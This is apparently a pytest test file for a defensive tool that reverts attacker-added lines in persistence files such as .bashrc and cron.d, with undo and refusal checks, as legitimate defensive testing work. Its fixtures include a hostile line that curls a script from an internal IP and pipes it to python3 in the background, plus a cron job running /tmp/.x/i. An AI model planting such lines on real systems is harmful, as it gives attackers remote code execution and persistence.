"""``revert_file`` takes exactly the lines an attack added or changed out of a persistence
file, back to its baseline, keeping the user's lines, the inode, owner and mode; it refuses
(touching nothing) without a baseline, when baseline lines are gone, and for a deleted
file, a symbolic link, a hard-linked file, a path that is no persistence file or a changed
owner; ``unrevert_file`` puts the lines back: the file's bytes are identical again. The
diff logic is checked on arbitrary bytes (hypothesis): binary, CRLF, lone CR, no final
newline, large files."""

import hashlib
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from provarmor.response.action import ResponseContext, build_context
from provarmor.response.baseline import read_baseline
from provarmor.response.policy import Mode, Policy
from provarmor.response.records import (
    ActionKind,
    ActionRequest,
    Outcome,
    PersistenceTarget,
    RevertedTarget,
)
from provarmor.response.responder import Responder
from provarmor.response.revert import (
    REVERT_FILE,
    UNREVERT_FILE,
    Revert,
    plan_revert,
    reapply,
    split_lines,
)
from provarmor.response.settings import ResponseSettings

USER = b"# ~/.bashrc\nexport EDITOR=vi\nalias ll='ls -l'\n"
HOOK = b"nohup sh -c 'curl -s http://10.0.0.9/i | python3 -' >/dev/null 2>&1 &\n"

# -- the diff logic --------------------------------------------------------------------------


def round_trips(baseline: bytes, current: bytes) -> Revert:
    plan = plan_revert(baseline, current)
    assert isinstance(plan, Revert), plan
    assert plan.content == baseline
    assert reapply(plan.content, plan.hunks) == current
    return plan


def test_an_appended_line_is_one_added_hunk_at_the_end():
    plan = round_trips(USER, USER + HOOK)
    assert [(h.line, h.replaced, h.lines) for h in plan.hunks] == [(3, 0, HOOK)]


def test_an_append_to_a_file_without_a_final_newline_changes_its_last_line():
    plan = round_trips(b"a\nlast", b"a\nlast" + HOOK)
    assert [(h.line, h.replaced) for h in plan.hunks] == [(1, 1)]


def test_a_line_changed_in_place_and_one_prepended_are_both_taken_back():
    current = HOOK + USER.replace(b"EDITOR=vi", b"EDITOR=/tmp/.x")
    plan = round_trips(USER, current)
    assert [(h.line, h.replaced) for h in plan.hunks] == [(0, 0), (1, 1)]


def test_crlf_and_lone_cr_lines_keep_their_ends():
    baseline = b"a\r\nb\rc"
    plan = round_trips(baseline, b"a\r\nX\r\nb\rc")
    assert [h.lines for h in plan.hunks] == [b"X\r\n"]
    assert split_lines(baseline) == [b"a\r\n", b"b\r", b"c"]


def test_a_file_absent_at_baseline_is_all_the_attack_s():
    plan = round_trips(b"", b"/tmp/.x/libhook.so\n")
    assert plan.hunks[0].line == 0 and plan.hunks[0].replaced == 0


@pytest.mark.parametrize(
    ("current", "words"),
    [
        (b"# ~/.bashrc\nalias ll='ls -l'\n", "lines gone"),
        (b"# ~/.bashrc\nexport EDITOR=vi\n", "lines gone"),
        (b"", "lines gone"),
        (b"# ~/.bashrc\nX\n", "lines gone"),
        (USER, "nothing to revert"),
    ],
)
def test_lines_gone_from_the_baseline_or_no_change_are_refused(current, words):
    plan = plan_revert(USER, current)
    assert isinstance(plan, str) and words in plan


def test_a_large_file_with_an_append_in_the_middle_is_quick_and_exact():
    baseline = b"".join(b"export V%d=%d\n" % (n, n % 7) for n in range(40_000))
    lines = split_lines(baseline)
    current = b"".join([*lines[:20_000], HOOK, *lines[20_000:]])
    plan = round_trips(baseline, current)
    assert [(h.line, h.replaced, h.lines) for h in plan.hunks] == [(20_000, 0, HOOK)]


LINES = st.lists(
    st.binary(max_size=12)
    .map(lambda b: b.replace(b"\n", b"").replace(b"\r", b""))
    .flatmap(lambda b: st.sampled_from([b + b"\n", b + b"\r\n", b + b"\r", b])),
    max_size=12,
)


@settings(max_examples=300, deadline=None)
@given(baseline=st.binary(max_size=300), current=st.binary(max_size=300))
def test_arbitrary_bytes_either_round_trip_or_are_refused(baseline, current):
    plan = plan_revert(baseline, current)
    if isinstance(plan, Revert):
        assert plan.content == baseline
        assert reapply(plan.content, plan.hunks) == current
    else:
        assert plan


@settings(max_examples=300, deadline=None)
@given(
    user=LINES,
    added=st.lists(st.tuples(st.integers(min_value=0, max_value=20), LINES), max_size=4),
)
def test_lines_inserted_anywhere_are_taken_out_exactly(user, added):
    """Whole lines inserted between the user's lines (the user's last line ends in a
    newline, as an editor leaves it) are always an attributable addition."""
    lines = [line if line.endswith((b"\n", b"\r")) else line + b"\n" for line in user]
    baseline = b"".join(lines)
    current = list(lines)
    for where, extra in sorted(added, reverse=True):
        current[min(where, len(current)) : min(where, len(current))] = [
            e if e.endswith((b"\n", b"\r")) else e + b"\n" for e in extra
        ]
    if current == lines:
        return
    round_trips(baseline, b"".join(current))


# -- on real files ---------------------------------------------------------------------------

privileged = pytest.mark.privileged


@pytest.fixture
def home(tmp_path: Path, root: None) -> Path:
    folder = tmp_path / "home" / "dev"
    folder.mkdir(parents=True)
    (folder / ".bashrc").write_bytes(USER)
    os.chown(folder / ".bashrc", 65534, 65534)
    os.chmod(folder / ".bashrc", 0o640)
    return folder


@pytest.fixture
def context(tmp_path: Path, root: None) -> ResponseContext:
    patterns = (str(tmp_path / "home/*/.bashrc"), str(tmp_path / "cron.d/*"))
    settings = ResponseSettings(state_dir=tmp_path / "response", persistence_files=patterns)
    return build_context(settings)


def take_baseline(context: ResponseContext) -> None:
    Responder.open(Policy(mode=Mode.ENFORCE), context).keep_baseline()


def revert(context: ResponseContext, path: Path, written_ns: int = 0):
    target = PersistenceTarget(path=str(path), written_ns=written_ns)
    request = ActionRequest(id="r", kind=ActionKind.REVERT_FILE, target=target, requested_by="t")
    return REVERT_FILE.run(request, context)


def unrevert(context: ResponseContext, target: RevertedTarget):
    request = ActionRequest(id="u", kind=ActionKind.UNREVERT_FILE, target=target, requested_by="t")
    return UNREVERT_FILE.run(request, context)


@privileged
def test_revert_and_undo_round_trip_on_a_real_file(context, home):
    rc = home / ".bashrc"
    take_baseline(context)
    with rc.open("ab") as handle:
        handle.write(HOOK)
    attacked = rc.read_bytes()
    before = rc.stat()
    result = revert(context, rc)
    assert result.outcome is Outcome.DONE, result.message
    assert rc.read_bytes() == USER
    after = rc.stat()
    assert (after.st_ino, after.st_uid, after.st_gid) == (before.st_ino, 65534, 65534)
    assert stat.S_IMODE(after.st_mode) == 0o640
    assert "line 4 (+1)" in result.message and "nohup" in result.message
    undo = result.undo_target
    assert isinstance(undo, RevertedTarget) and undo.hunks[0].lines == HOOK
    assert undo.original_sha256 == hashlib.sha256(attacked).hexdigest()

    back = unrevert(context, undo)
    assert back.outcome is Outcome.DONE, back.message
    assert rc.read_bytes() == attacked
    assert rc.stat().st_ino == before.st_ino


@privileged
def test_the_version_from_before_the_write_is_used(context, home):
    """A refresh after the attack's write took its line into the newest version; the
    revert of that write still goes back to the version from before it."""
    rc = home / ".bashrc"
    take_baseline(context)
    (written,) = read_baseline(context.settings.baseline_file).files[0].versions
    rc.write_bytes(USER + HOOK)
    take_baseline(context)
    assert revert(context, rc).outcome is Outcome.REFUSED  # the newest has the hook in it
    result = revert(context, rc, written_ns=written.taken_ns + 1)
    assert result.outcome is Outcome.DONE, result.message
    assert rc.read_bytes() == USER


@privileged
def test_a_file_that_appeared_after_the_baseline_is_emptied(context, tmp_path):
    (tmp_path / "cron.d").mkdir()
    take_baseline(context)
    job = tmp_path / "cron.d" / "update"
    job.write_bytes(b"* * * * * root /tmp/.x/i\n")
    result = revert(context, job)
    assert result.outcome is Outcome.DONE, result.message
    assert job.read_bytes() == b""
    assert unrevert(context, result.undo_target).outcome is Outcome.DONE
    assert job.read_bytes() == b"* * * * * root /tmp/.x/i\n"


@privileged
def test_refusals_touch_nothing(context, home, tmp_path):
    rc = home / ".bashrc"
    assert "no baseline" in revert(context, rc).message  # not taken yet
    take_baseline(context)
    rc.write_bytes(b"# ~/.bashrc\n" + HOOK)  # the user's lines gone: not attributable
    result = revert(context, rc)
    assert result.outcome is Outcome.REFUSED and "lines gone" in result.message
    assert rc.read_bytes() == b"# ~/.bashrc\n" + HOOK

    elsewhere = tmp_path / "other.rc"
    elsewhere.write_bytes(HOOK)
    result = revert(context, elsewhere)
    assert result.outcome is Outcome.REFUSED and "not a persistence file" in result.message
    assert revert(context, Path(f"{home}/../dev/.bashrc")).outcome is Outcome.REFUSED


@privileged
def test_a_deleted_file_a_symbolic_link_and_a_hard_link_are_refused(context, home, tmp_path):
    rc = home / ".bashrc"
    take_baseline(context)
    rc.unlink()
    result = revert(context, rc)
    assert result.outcome is Outcome.REFUSED and "gone" in result.message

    target = tmp_path / "elsewhere"
    target.write_bytes(USER + HOOK)
    rc.symlink_to(target)
    result = revert(context, rc)
    assert result.outcome is Outcome.REFUSED and "symbolic link" in result.message
    assert target.read_bytes() == USER + HOOK

    rc.unlink()
    os.link(target, rc)
    os.chown(rc, 65534, 65534)
    result = revert(context, rc)
    assert result.outcome is Outcome.REFUSED and "hard links" in result.message
    assert target.read_bytes() == USER + HOOK


@privileged
def test_a_changed_owner_is_refused(context, home):
    rc = home / ".bashrc"
    take_baseline(context)
    rc.write_bytes(USER + HOOK)
    os.chown(rc, 0, 0)
    result = revert(context, rc)
    assert result.outcome is Outcome.REFUSED and "owner 0:0" in result.message
    assert rc.read_bytes() == USER + HOOK


@privileged
def test_a_file_too_large_for_the_baseline_is_not_reverted(tmp_path, root):
    (tmp_path / "big.rc").write_bytes(b"x\n" * 100)
    settings = ResponseSettings(
        state_dir=tmp_path / "response",
        persistence_files=(str(tmp_path / "*.rc"),),
        baseline_file_bytes=50,
    )
    context = build_context(settings)
    take_baseline(context)
    with (tmp_path / "big.rc").open("ab") as handle:
        handle.write(HOOK)
    result = revert(context, tmp_path / "big.rc")
    assert result.outcome is Outcome.REFUSED and "larger than 50 bytes" in result.message


@privileged
def test_undo_fails_when_the_file_changed_since_the_revert(context, home):
    rc = home / ".bashrc"
    take_baseline(context)
    rc.write_bytes(USER + HOOK)
    result = revert(context, rc)
    rc.write_bytes(USER + b"alias la='ls -a'\n")
    back = unrevert(context, result.undo_target)
    assert back.outcome is Outcome.FAILED and "changed since the revert" in back.message
    assert rc.read_bytes() == USER + b"alias la='ls -a'\n"
